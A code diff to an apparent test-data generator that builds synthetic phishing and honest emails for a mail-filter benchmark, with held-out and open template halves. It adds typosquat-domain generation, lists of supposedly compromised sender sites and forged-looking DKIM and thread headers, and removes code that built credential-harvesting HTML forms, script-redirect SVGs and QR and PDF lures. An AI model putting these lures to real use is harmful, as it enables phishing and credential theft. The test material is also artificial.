@@ -22,6 +22,8 @@ from importlib.resources import files
 
 import msgspec
 
+from safecare.testing.mails.attached import attached
+
 OWN = "aurore.example"
 _START = datetime(2026, 3, 2, 8, tzinfo=UTC)
 _FIRST = "Claire Julien Nadia Pierre Sophie Karim Anna David Emma Thomas Laura Michael Sarah James".split()
@@ -38,6 +40,12 @@ _PARTNER = (
 _FREE = "gmail.com outlook.com hotmail.fr yahoo.com proton.me laposte.net orange.fr".split()
 _WORDS = "bright river stone cloud north silver garden harbor metro alpha vector prime nova terra lumen crest".split()
 _TASKS = "suivi espace client portail service info acces notification gestion mon-dossier secure update online".split()
+_BROKEN_IN = (
+    "ferme-des-tilleuls.fr cafe-lumen.be yogastudio-norte.es haus-am-see.at tracteurs-martin.fr lakeside-dental.ca "
+    "optique-centrale.fr bluewater-sailing.co.nz ecole-jean-moulin.fr pizzeria-napoli.it sunrise-farms.co.za"
+).split()
+"""Domains of honest firms whose mail box or site was taken over: what is sent by them passes all checks."""
+_FOLDERS = ("media/k2", "old", "images/2019", "fr/actualites", "cache", "app/x", "shop/inc", "docs")
 _SHORT = "bit.ly tinyurl.com t.ly is.gd cutt.ly rb.gy shorturl.at".split()
 _TRACK = (
     "https://u{num}.ct.sendgrid.net/ls/click?upn={ref}",
@@ -45,6 +53,10 @@ _TRACK = (
     "https://{domain}/r/{ref}?utm_source=newsletter&utm_medium=email",
     "https://email.{domain}/c/{ref}",
 )
+
+
+LATER = ("later-", "taught-")
+"""What names of the kinds begin with whose mails are written as they come today: hops, signatures, threads."""
 
 
 class Template(msgspec.Struct, frozen=True):
@@ -62,10 +74,16 @@ class MadeMail(msgspec.Struct, frozen=True):
     name: str
     phishing: bool
     raw: bytes
+    half: str = ""
+    """``open`` or ``held``, see `templates`."""
 
 
 def templates(kind: str) -> list[Template]:
-    """Return the templates of ``phishing`` or ``honest``."""
+    """Return the templates of ``phishing``, ``honest``, ``later-phishing``, ``later-honest`` or ``taught-phishing``.
+
+    Of the ``later`` ones, half was put aside (`half`: ``held``) before any was judged, and is only counted; the scorer
+    was changed for the other half (``open``) and for the ``taught`` ones.
+    """
     text = files(__package__).joinpath(f"{kind}.txt").read_text("utf-8")
     found: list[Template] = []
     for block in re.split(r"(?m)^# ", text)[1:]:
@@ -78,20 +96,23 @@ def templates(kind: str) -> list[Template]:
 
 
 def made_mails(kind: str, seeds: range) -> Iterator[MadeMail]:
-    """Yield one mail for each template of ``phishing`` or ``honest`` and each seed."""
+    """Yield one mail for each template of the kind (see `templates`) and each seed."""
     for number, template in enumerate(templates(kind)):
         for seed in seeds:
             rng = random.Random(f"{kind} {number} {seed}")
             yield MadeMail(
-                f"{template.name}-{template.language}-{seed}", kind == "phishing", _Writer(template, rng).mail()
+                f"{template.name}-{template.language}-{seed}",
+                kind.endswith("phishing"),
+                _Writer(template, rng, later=kind.startswith(LATER)).mail(),
+                template.fields.get("half", ""),
             )
 
 
 class _Writer:
     """Draws one mail."""
 
-    def __init__(self, template: Template, rng: random.Random) -> None:
-        self._template, self._rng = template, rng
+    def __init__(self, template: Template, rng: random.Random, *, later: bool = False) -> None:
+        self._template, self._rng, self._later = template, rng, later
         first, last, other = rng.choice(_FIRST), rng.choice(_LAST), rng.choice(_LAST)
         self._at = _START + timedelta(minutes=rng.randrange(400_000))
         self._words = {
@@ -115,6 +136,12 @@ class _Writer:
             "ref": "".join(rng.choice("abcdefghkmnpqrstuvwxyz23456789") for _ in range(10)),
             "iban": f"FR76 3000 4{rng.randrange(1000, 9999)} 0001 {rng.randrange(1000, 9999)}",
         }
+        if later:
+            self._words |= {
+                "hacked": rng.choice(_BROKEN_IN),
+                "site": f"www.{rng.choice(_BROKEN_IN)}/{rng.choice(_FOLDERS)}",
+                "likepartner": _beside(self._words["partner"], rng),
+            }
         self._words["user"] = "user1" if "{user}@" not in template.fields["from"] else other.lower()
         sender = self._fill(template.fields["from"])
         self._sender, self._address = sender.rpartition(" <")[0], sender.rpartition(" <")[2].rstrip(">")
@@ -130,6 +157,7 @@ class _Writer:
         head = [
             f"Received: {hop}\r\n\tby mx.{OWN} with ESMTPS;\r\n\t{format_datetime(self._at)}",
             *self._vouched(),
+            *(self._way() if self._later else ()),
             f"From: {self._encoded(self._sender)} <{self._address}>",
             f"To: {self._words['first']} {self._words['last']} <user1@{OWN}>",
             f"Subject: {self._encoded(self._fill(fields['subject']))}",
@@ -143,8 +171,27 @@ class _Writer:
             page = self._part("text/html", self._page())
             parts = [page] if rng.random() < 0.4 else [self._several("alternative", [*parts, page])]
         if "attach" in fields:
-            parts = [self._several("mixed", [parts[0], *_attached(fields["attach"], self._words, rng)])]
+            parts = [self._several("mixed", [parts[0], *attached(fields["attach"], self._words, rng)])]
         return "\r\n".join(head).encode() + b"\r\n" + parts[0]
+
+    def _way(self) -> list[str]:
+        """Return what servers and the program of the sender wrote: a hop within, a signature, whose answer it is."""
+        rng, domain, fields = self._rng, self._domain, self._template.fields
+        ref, at = self._words["ref"], format_datetime(self._at - timedelta(seconds=rng.randrange(2, 40)))
+        inner = f"from [10.1.{rng.randrange(255)}.7] (host-{ref}.{domain} [203.0.113.{rng.randrange(255)}])"
+        lines = [f"Received: {inner}\r\n\tby mail.{domain} (Postfix) with ESMTPSA id {ref.upper()};\r\n\t{at}"]
+        if fields.get("auth") != "fail":
+            signed = base64.b64encode(rng.randbytes(128)).decode()
+            lines.append(
+                f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={domain}; s=s{rng.randrange(9)};\r\n"
+                f"\th=from:to:subject:date:message-id; bh={base64.b64encode(rng.randbytes(32)).decode()};\r\n"
+                f"\tb={signed[:70]}\r\n\t {signed[70:]}"
+            )
+        if fields.get("thread"):
+            lines += [f"In-Reply-To: <{ref}.1@mail.{OWN}>", f"References: <{ref}.0@{domain}>\r\n <{ref}.1@mail.{OWN}>"]
+        if "reply" in fields:
+            lines.append(f"Reply-To: {self._fill(fields['reply'])}")
+        return lines
 
     def _fill(self, text: str) -> str:
         return re.sub(r"\{(\w+)\}", lambda found: self._words.get(found[1], found[0]), text)
@@ -246,90 +293,21 @@ class _Writer:
         return b"Content-Type: multipart/%s; boundary=%s\r\n\r\n%s--%s--\r\n" % (kind.encode(), mark, inner, mark)
 
 
+def _beside(domain: str, rng: random.Random) -> str:
+    """Return a domain that looks like `domain`."""
+    name, _, ending = domain.rpartition(".")
+    at = rng.randrange(1, len(name) - 2)
+    return rng.choice(
+        (f"{name}-group.com", f"{name.replace('i', 'l', 1)}.{ending}",
+         f"{name[:at]}{name[at + 1]}{name[at]}{name[at + 2:]}.{ending}", f"{name}.co",
+         f"{name[:at]}{name[at]}{name[at:]}.{ending}")
+    )  # fmt: skip
+
+
 def _quoted(raw: bytes) -> bytes:
     import quopri
 
     return quopri.encodestring(raw.replace(b"\r\n", b"\n")).replace(b"\n", b"\r\n")
-
-
-def _attached(kind: str, words: dict[str, str], rng: random.Random) -> list[bytes]:
-    """Return the file that a template names, as a part."""
-    goal = f"https://{words['host']}/?e={words['email']}"
-    if kind == "html":
-        page = (
-            f"<html><body><form action='https://{words['bad']}/post.php' method=post>"
-            f"<img src='https://logo.clearbit.com/microsoft.com'><input name=u value='{words['email']}'>"
-            "<input type=password name=p><input type=submit></form></body></html>"
-        )
-        return [_file(f"Document_{words['ref']}.html", "text/html", page.encode())]
-    if kind == "svg":
-        svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location.href='{goal}'</script></svg>"
-        return [_file(f"agreement_{words['ref']}.svg", "image/svg+xml", svg.encode())]
-    if kind == "ics":
-        text = f"Payroll update: confirm your details before the meeting at {goal}"
-        return [_file("invite.ics", "text/calendar; method=REQUEST", _calendar(text, words))]
-    if kind == "icshonest":
-        return [
-            _file(
-                "invite.ics",
-                "text/calendar; method=REQUEST",
-                _calendar("Monthly review. https://us02web.zoom.us/j/81", words),
-            )
-        ]
-    if kind in ("qr", "qrhonest"):
-        import cv2
-
-        text = goal if kind == "qr" else words["ref"].upper()
-        picture = cv2.resize(cv2.QRCodeEncoder.create().encode(text), None, fx=6, fy=6, interpolation=cv2.INTER_NEAREST)
-        return [_file("image001.png", "image/png", cv2.imencode(".png", picture)[1].tobytes())]
-    if kind == "jpghonest":
-        import cv2
-        import numpy as np
-
-        noise = np.random.default_rng(rng.randrange(10**6)).integers(0, 255, (300, 300), np.uint8)
-        return [_file("carte.jpg", "image/jpeg", cv2.imencode(".jpg", noise)[1].tobytes())]
-    link = (
-        f"/Annots [<</Type /Annot /Subtype /Link /Rect [50 600 300 650] /A <</S /URI /URI ({goal})>>>>]"
-        if kind == "pdflink"
-        else ""
-    )
-    return [_file(f"document_{words['num']}.pdf", "application/pdf", _pdf(link))]
-
-
-def _calendar(text: str, words: dict[str, str]) -> bytes:
-    lines = (
-        "BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT", f"UID:{words['ref']}",
-        "DTSTART:20260401T100000Z", f"SUMMARY:{text}", f"DESCRIPTION:{text}", "END:VEVENT", "END:VCALENDAR", "",
-    )  # fmt: skip
-    return "\r\n".join(lines).encode()
-
-
-def _pdf(annots: str) -> bytes:
-    body = b"BT /F1 12 Tf 60 700 Td (Document) Tj ET"
-    objects = [
-        b"<</Type /Catalog /Pages 2 0 R>>",
-        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
-        f"<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {annots}>>".encode(),
-        b"<</Length %d>>\nstream\n%s\nendstream" % (len(body), body),
-    ]
-    out, places = bytearray(b"%PDF-1.5\n"), []
-    for number, one in enumerate(objects, 1):
-        places.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, one)
-    table = b"".join(b"%010d 00000 n \n" % place for place in places)
-    start = len(out)
-    out += (
-        b"xref\n0 5\n0000000000 65535 f \n"
-        + table
-        + b"trailer\n<</Size 5 /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % start
-    )
-    return bytes(out)
-
-
-def _file(name: str, media: str, raw: bytes) -> bytes:
-    head = f'Content-Type: {media}; name="{name}"\r\nContent-Disposition: attachment; filename="{name}"\r\n'
-    coded = base64.encodebytes(raw).replace(b"\n", b"\r\n")
-    return head.encode() + b"Content-Transfer-Encoding: base64\r\n\r\n" + coded
 
 
 __all__ = ["MadeMail", "made_mails", "templates"]
